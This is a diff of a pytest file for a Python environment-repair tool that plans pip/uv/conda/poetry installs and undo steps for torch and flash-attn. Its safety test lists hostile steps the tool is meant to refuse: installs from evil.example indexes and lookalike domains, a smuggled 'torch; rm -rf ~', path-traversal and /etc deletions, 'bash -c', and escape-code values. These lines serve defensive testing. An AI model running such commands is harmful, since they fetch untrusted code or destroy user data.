@@ -8,16 +8,18 @@ import pytest
 from ailing_machines import cpu_torch
 from whole_machines import RTX_4090, changed, packages
 
+from attn_doctor import commands
+from attn_doctor.commands.installers import Context, chosen, context, installer, locks_of
 from attn_doctor.fixes import pins, step_effects, step_safety
 from attn_doctor.fixes.alternatives import drafts
-from attn_doctor.fixes.installers import Context, chosen, context, locks_of, parse, translated
-from attn_doctor.fixes.plan import WITHOUT, WORK, Change
+from attn_doctor.fixes.plan import WITHOUT, WORK, Change, PlannedStep
 from attn_doctor.fixes.plan_builder import make
 from attn_doctor.fixes.resolve import Resolved, _from_report, _from_uv, by_hand
 from attn_doctor.judging.diagnose import diagnose
 from attn_doctor.model.facts import Distribution, Import, Pin
-from attn_doctor.model.findings import Goal, Step
+from attn_doctor.model.findings import Goal
 from attn_doctor.model.report import decode_facts
+from attn_doctor.model.steps import AddPip, Install, Remove, Run, RunByHand, SetVariable, Uninstall
 
 PY = "/venv/bin/python"
 
@@ -26,70 +28,57 @@ def plan(facts, goal=Goal.TRAIN, **options):
     return make(facts, diagnose(facts, goal).findings, goal, **options)
 
 
-def step(*argv, kind="run"):
-    return Step(argv=argv, why="why", changes="something", risk="low", kind=kind)
+WORDS = {"why": "why", "changes": "something"}
+
+
+def install(*requirements, **options):
+    return commands.install(*requirements, **options, **WORDS)
+
+
+def uninstall(*names):
+    return commands.uninstall(*names, why="why")
 
 
 def pip(*argv):
     return (PY, "-m", "pip", *argv)
 
 
-# --- reading a command back
-
-
-@pytest.mark.parametrize(
-    ("argv", "verb", "names", "options"),
-    [
-        (pip("install", "numpy<2"), "install", ("numpy",), ()),
-        (pip("uninstall", "-y", "Flash_Attn"), "uninstall", ("flash-attn",), ()),
-        (pip("install", "--index-url", "https://x/whl/cpu", "torch==2.8.0"), "install", ("torch",), ("--index-url", "https://x/whl/cpu")),
-        (("uv", "pip", "install", "--python", PY, "--no-deps", "torch"), "install", ("torch",), ("--no-deps",)),
-        (pip("install", "https://x/flash_attn-2.8.3%2Bcu12torch2.8cxx11abiTRUE-cp311-cp311-linux_x86_64.whl"), "install",
-         ("flash-attn",), ()),
-    ],
-)  # fmt: skip
-def test_what_a_command_asks_for(argv, verb, names, options):
-    request = parse(argv)
-    assert (request.verb, request.names(), request.options) == (verb, names, options)
-
-
-@pytest.mark.parametrize(
-    "argv", [("rm", "-r", "x"), pip("cache", "purge"), (PY, "-m", "ensurepip"), ("conda", "install", "x"), ()]
-)
-def test_other_commands_ask_for_nothing(argv):
-    assert parse(argv) is None
-
-
 # --- installers
 
 HERE = {"python": PY, "prefix": "/venv", "folder": "/project"}
-INSTALL, UPGRADE = pip("install", "numpy<2"), pip("install", "--upgrade", "numpy")
-REPAIR, REMOVE = pip("install", "--force-reinstall", "--no-deps", "numpy==2.2.6"), pip("uninstall", "-y", "numpy")
+INSTALL, UPGRADE = install("numpy<2"), install("numpy", upgrade=True)
+REPAIR, REMOVE = install("numpy==2.2.6", reinstall=True, no_deps=True), uninstall("numpy")
+REPAIRED = pip("install", "--force-reinstall", "--no-deps", "numpy==2.2.6")
 
 
 @pytest.mark.parametrize(
-    ("installer", "argv", "said"),
+    ("name", "step", "said"),
     [
-        ("pip", INSTALL, INSTALL),
+        ("pip", INSTALL, pip("install", "numpy<2")),
         ("uv", INSTALL, ("uv", "pip", "install", "--python", PY, "numpy<2")),
         ("uv", REMOVE, ("uv", "pip", "uninstall", "--python", PY, "numpy")),
         ("conda", INSTALL, ("conda", "install", "--prefix", "/venv", "--yes", "numpy<2")),
+        ("conda", UPGRADE, ("conda", "update", "--prefix", "/venv", "--yes", "numpy")),
         ("mamba", REMOVE, ("mamba", "remove", "--prefix", "/venv", "--yes", "numpy")),
-        ("conda", pip("install", "torch==2.8.0"), pip("install", "torch==2.8.0")),  # pip put it there
-        ("conda", REPAIR, REPAIR),
+        ("conda", install("torch==2.8.0"), pip("install", "torch==2.8.0")),  # pip put it there
+        ("conda", REPAIR, REPAIRED),
         ("poetry", INSTALL, ("poetry", "--directory", "/project", "add", "numpy<2")),
         ("poetry", UPGRADE, ("poetry", "--directory", "/project", "add", "numpy@latest")),
         ("poetry", REMOVE, ("poetry", "--directory", "/project", "remove", "numpy")),
-        ("poetry", pip("uninstall", "-y", "torch"), pip("uninstall", "-y", "torch")),  # not declared: nothing to remove there
+        ("poetry", uninstall("torch"), pip("uninstall", "-y", "torch")),  # not declared: nothing to remove there
         ("pdm", INSTALL, ("pdm", "add", "--project", "/project", "numpy<2")),
         ("pdm", UPGRADE, ("pdm", "update", "--project", "/project", "--unconstrained", "numpy")),
         ("pixi", INSTALL, ("pixi", "add", "--manifest-path", "/project", "--pypi", "numpy<2")),
-        ("pixi", REPAIR, REPAIR),
+        ("pixi", UPGRADE, ("pixi", "upgrade", "--manifest-path", "/project", "numpy")),
+        ("pixi", REPAIR, REPAIRED),
     ],
 )  # fmt: skip
-def test_each_installers_own_words(installer, argv, said):
-    here = Context(installer=installer, from_conda=frozenset({"numpy"}), declared=frozenset({"numpy"}), **HERE)
-    assert translated(step(*argv), here).argv == said
+def test_each_installers_own_words(name, step, said):
+    here = Context(installer=name, from_conda=frozenset({"numpy"}), declared=frozenset({"numpy"}), **HERE)
+    made = installer(here).rendered(step)
+    assert made.argv == said
+    by_pip = name not in ("pip", "uv") and said[:3] == (PY, "-m", "pip")
+    assert made.why == (f"why; {name} has no word for this, so the environment's own pip does it" if by_pip else "why")
 
 
 @pytest.mark.parametrize(
@@ -133,20 +122,20 @@ def pinned(*requirements):
 
 
 @pytest.mark.parametrize(
-    ("pin", "changes", "argv", "words"),
+    ("pin", "changes", "step", "words"),
     [
         ("numpy>=2", (Change(package="numpy", before="2.2.6", after="1.26.4"),), INSTALL, "and this installs 1.26.4"),
         ("numpy<3", (Change(package="numpy", before="2.2.6", after="1.26.4"),), INSTALL, None),
         ("torch==2.8.0", (Change(package="torch", before="2.8.0", after="2.8.0+cu128"),), INSTALL, None),
-        ("flash-attn==2.8.3", None, pip("uninstall", "-y", "flash-attn"), "and this removes it"),
-        ("torch==2.8.0", None, pip("install", "torch==2.15.0"), "and this asks for torch==2.15.0"),
-        ("torch>=2.9", None, pip("install", "torch==2.15.0"), None),
+        ("flash-attn==2.8.3", None, uninstall("flash-attn"), "and this removes it"),
+        ("torch==2.8.0", None, install("torch==2.15.0"), "and this asks for torch==2.15.0"),
+        ("torch>=2.9", None, install("torch==2.15.0"), None),
         ("pandas==1.0", None, INSTALL, None),
         ("numpy", (Change(package="numpy", before="2.2.6", after="1.26.4"),), INSTALL, None),
     ],
 )
-def test_what_goes_against_a_pin_is_said(pin, changes, argv, words):
-    said = pins.broken(pinned(pin), [(changes, parse(argv))])
+def test_what_goes_against_a_pin_is_said(pin, changes, step, words):
+    said = pins.broken(pinned(pin), [(changes, step)])
     assert said == ((f"requirements.txt line 1 asks for {pin}, {words}",) if words else ())
 
 
@@ -171,15 +160,15 @@ def test_what_keeps_to_the_pins_comes_first():
     ]
 
 
-def _numpy_1(argv, variables):
-    if "numpy<2" in argv:
+def _numpy_1(step, variables):
+    if "numpy<2" in step.requirements:
         return Resolved((Change(package="numpy", before="2.2.6", after="1.26.4"),))
     return Resolved(None, "not asked")
 
 
 def test_what_the_resolver_rules_out_comes_last_and_says_so():
-    def no_solution(argv, variables):
-        if "numpy<2" in argv:
+    def no_solution(step, variables):
+        if "numpy<2" in step.requirements:
             return Resolved(None, "pip says: ERROR: No matching distribution found for numpy<2", impossible=True)
         return Resolved((Change(package="torch", before="2.2.2", after="2.15.0"),))
 
@@ -216,9 +205,9 @@ def test_making_it_work_and_doing_without_stand_side_by_side():
     ways = plan(HOLLOW, Goal.FLASH_ATTN).ways
     assert [way.intent for way in ways] == [WORK, WITHOUT]
     work, without = ways
-    assert [s.argv[3] for s in work.steps] == ["uninstall", "install"]
-    assert work.steps[-1].argv[-1].endswith("cxx11abiTRUE-cp312-cp312-linux_x86_64.whl")
-    assert [s.argv[3:] for s in without.steps] == [("uninstall", "-y", "flash-attn")]
+    assert [type(s.step) for s in work.steps] == [Uninstall, Install]
+    assert work.steps[-1].step.requirements[0].endswith("cxx11abiTRUE-cp312-cp312-linux_x86_64.whl")
+    assert [s.step.argv for s in without.steps] == [pip("uninstall", "-y", "flash-attn")]
 
 
 def test_a_broken_flash_attn_without_a_wheel_is_built_again_where_that_can_succeed():
@@ -226,7 +215,7 @@ def test_a_broken_flash_attn_without_a_wheel_is_built_again_where_that_can_succe
     ways = [way for way in plan(built, Goal.FLASH_ATTN).ways if way.intent == WORK]
     assert ways
     for way in ways:
-        compiling = [i for i, s in enumerate(way.steps) if "--no-build-isolation" in s.argv]
+        compiling = [i for i, s in enumerate(way.steps) if getattr(s.step, "no_build_isolation", False)]
         assert compiling in ([], [len(way.steps) - 1])  # once, and last
     elsewhere = changed(built, graphics__gpus=(), graphics__pci=())  # it can be made ready without a GPU
     prepared = plan(elsewhere, Goal.FLASH_ATTN)
@@ -236,10 +225,10 @@ def test_a_broken_flash_attn_without_a_wheel_is_built_again_where_that_can_succe
 
 def test_a_cpu_torch_is_replaced_whole_and_then_completed():
     way = plan(cpu_torch(RTX_4090)).ways[0]
-    again, needs = way.steps
-    assert again.argv[:6] == pip("install", "--force-reinstall", "--no-deps")
-    assert needs.argv[:4] == pip("install")
-    assert {word for word in again.argv if "==" in word} == {word for word in needs.argv if "==" in word}
+    again, needs = (planned.step for planned in way.steps)
+    assert (again.reinstall, again.no_deps, needs.options()) == (True, True, frozenset())
+    assert again.requirements == needs.requirements
+    assert {name for text in again.requirements for name in text.split("==")[:1]} == {"torch", "torchvision"}
 
 
 def test_without_a_pip_one_is_brought_first():
@@ -252,32 +241,28 @@ def test_without_a_pip_one_is_brought_first():
         packages__distributions=packages(torch="2.2.2", numpy="2.2.6"),
     )
     for way in plan(ill).ways:
-        assert [("ensurepip" in s.argv) for s in way.steps] == [True] + [False] * (len(way.steps) - 1)
+        assert [isinstance(s.step, AddPip) for s in way.steps] == [True] + [False] * (len(way.steps) - 1)
 
 
 def test_each_of_two_records_has_its_removal():
     twice = changed(RTX_4090, packages__duplicates=("torch 2.7.1 and 2.8.0",))
     made, _ = drafts(twice, diagnose(twice, Goal.TRAIN).findings, Goal.TRAIN)
-    assert [s.argv[3] for s in made[0].steps] == ["uninstall", "uninstall", "install"]
+    assert [type(s) for s in made[0].steps] == [Uninstall, Uninstall, Install]
 
 
 # --- what steps change
 
 
-def planned(*argvs, said=None):
-    from attn_doctor.fixes.plan import PlannedStep
+PIP = Context(installer="pip", **HERE)
 
-    return [
-        PlannedStep(kind="run", argv=argv, why="", what="", risk="low", changes=(said or {}).get(n, ()))
-        for n, argv in enumerate(argvs)
-    ]
+
+def planned(*steps, said=None):
+    return [PlannedStep(step=step, changes=(said or {}).get(n, ())) for n, step in enumerate(steps)]
 
 
 def test_changes_are_those_of_the_moment_at_which_a_step_is_taken():
     twice = {"numpy": ["1.26.4", "2.2.6"]}
-    steps = step_effects.in_order(
-        planned(REMOVE, REMOVE, REMOVE, pip("install", "--no-deps", "numpy==2.2.6")), twice, PY
-    )
+    steps = step_effects.in_order(planned(REMOVE, REMOVE, REMOVE, install("numpy==2.2.6", no_deps=True)), twice, PIP)
     assert [[str(c) for c in s.changes] for s in steps] == [
         ["removes numpy 1.26.4"],
         ["removes numpy 2.2.6"],
@@ -290,11 +275,11 @@ def test_changes_are_those_of_the_moment_at_which_a_step_is_taken():
 def test_what_an_earlier_step_brought_is_not_told_twice():
     torch = Change(package="torch", before="2.8.0+cpu", after="2.15.0")
     steps = planned(
-        pip("install", "--force-reinstall", "--no-deps", "torch==2.15.0"),
-        pip("install", "torch==2.15.0"),
+        install("torch==2.15.0", reinstall=True, no_deps=True),
+        install("torch==2.15.0"),
         said={0: (torch,), 1: (torch, Change(package="sympy", before=None, after="1.14.0"))},
     )
-    first, second = step_effects.in_order(steps, {"torch": ["2.8.0+cpu"]}, PY)
+    first, second = step_effects.in_order(steps, {"torch": ["2.8.0+cpu"]}, PIP)
     assert [str(c) for c in first.changes] == ["torch 2.8.0+cpu → 2.15.0"]
     assert [str(c) for c in second.changes] == ["adds sympy 1.14.0"]
     assert first.undo == (
@@ -302,9 +287,9 @@ def test_what_an_earlier_step_brought_is_not_told_twice():
             "install",
             "--force-reinstall",
             "--no-deps",
+            "torch==2.8.0+cpu",
             "--index-url",
             "https://download.pytorch.org/whl/cpu",
-            "torch==2.8.0+cpu",
         ),
     )
     assert second.undo == (pip("uninstall", "-y", "sympy"),)
@@ -335,7 +320,7 @@ def test_taking_back_by_hand():
         Change(package="numpy", before="2.2.6", after="1.26.4"),
         Change(package="sympy", before=None, after="1.14.0"),
     )
-    assert by_hand(changes, PY) == (
+    assert by_hand(changes, PIP) == (
         pip("install", "--force-reinstall", "--no-deps", "numpy==2.2.6"),
         pip("uninstall", "-y", "sympy"),
     )
@@ -343,10 +328,10 @@ def test_taking_back_by_hand():
 
 def test_what_uv_did_uv_takes_back():
     steps = planned(
-        ("uv", "pip", "install", "--python", PY, "numpy<2"),
+        INSTALL,
         said={0: (Change(package="numpy", before="2.2.6", after="1.26.4"),)},
     )
-    (one,) = step_effects.in_order(steps, {"numpy": ["2.2.6"]}, PY)
+    (one,) = step_effects.in_order(steps, {"numpy": ["2.2.6"]}, Context(installer="uv", **HERE))
     assert one.undo == (("uv", "pip", "install", "--python", PY, "--force-reinstall", "--no-deps", "numpy==2.2.6"),)
 
 
@@ -356,24 +341,29 @@ def test_what_uv_did_uv_takes_back():
 @pytest.mark.parametrize(
     "bad",
     [
-        step(*pip("install", "--index-url", "https://evil.example/simple", "torch")),
-        step(*pip("install", "--index-url", "https://download.pytorch.org.evil.example/whl/cu128", "torch")),
-        step(*pip("install", "torch @ https://evil.example/torch.tar.gz")),
-        step(*pip("install", "https://evil.example/torch.tar.gz")),
-        step(*pip("install", "http://github.com/flash_attn-2.8.3-cp311-cp311-linux_x86_64.whl")),
-        step(*pip("install", "--target", "/etc", "torch")),
-        step(*pip("install", "--config-settings", "x")),
-        step(*pip("install", "-r", "/tmp/x")),
-        step(*pip("install", "../torch")),
-        step(*pip("uninstall", "-y", "torch; rm -rf ~")),
-        step(*pip("install", "torch\nnumpy")),
-        step("rm", "-r", "/venv/lib/python3.12/site-packages/torch"),
-        step("rm", "-r", "/venv/lib/python3.12/site-packages/../~x"),
-        step("rm", "-r", "/etc"),
-        step("rm", "-rf", "/venv/lib/python3.12/site-packages/~x"),
-        step("bash", "-c", "true"),
-        step("/tmp/python", "-m", "pip", "cache", "purge"),
-        step("NAME", "\x1b[2J", kind="environment"),
+        install("torch", index_url="https://evil.example/simple"),
+        install("torch", index_url="https://download.pytorch.org.evil.example/whl/cu128"),
+        install("torch", from_folder="/etc"),
+        install("torch @ https://evil.example/torch.tar.gz"),
+        install("https://evil.example/torch.tar.gz"),
+        install("http://github.com/flash_attn-2.8.3-cp311-cp311-linux_x86_64.whl"),
+        install("--target", "/etc", "torch"),
+        install("--config-settings", "x"),
+        install("-r", "/tmp/x"),
+        install("../torch"),
+        uninstall("torch; rm -rf ~"),
+        uninstall("-r"),
+        install("torch\nnumpy"),
+        Remove(paths=("/venv/lib/python3.12/site-packages/torch",), **WORDS),
+        Remove(paths=("/venv/lib/python3.12/site-packages/../~x",), **WORDS),
+        Remove(paths=("/etc",), **WORDS),
+        Run(argv=("rm", "-rf", "/venv/lib/python3.12/site-packages/~x"), **WORDS),
+        Run(argv=("bash", "-c", "true"), **WORDS),
+        Run(argv=("/tmp/python", "-m", "pip", "cache", "purge"), **WORDS),
+        Run(argv=pip("install", "--target", "/etc", "torch"), **WORDS),
+        Run(argv=("git", "-c", "core.pager=x", "log"), **WORDS),
+        SetVariable(name="NAME", value="\x1b[2J", **WORDS),
+        RunByHand(argv=("sudo", "\x1b[2J"), **WORDS),
     ],
 )  # fmt: skip
 def test_a_step_that_holds_something_else_is_refused(bad):
@@ -384,7 +374,9 @@ def test_a_step_that_holds_something_else_is_refused(bad):
 def test_a_strange_name_in_the_facts_never_becomes_an_option():
     strange = changed(RTX_4090, packages__duplicates=("--target=/etc 1.0 and 2.0",))
     made, notes = drafts(strange, diagnose(strange, Goal.TRAIN).findings, Goal.TRAIN)
-    assert not any("--target=/etc" in word for draft in made for s in draft.steps for word in s.argv)
+    assert not any(
+        "--target=/etc" in word for draft in made for s in draft.steps for word in getattr(s, "requirements", ())
+    )
     assert any("was left out" in note for note in notes)
 
 
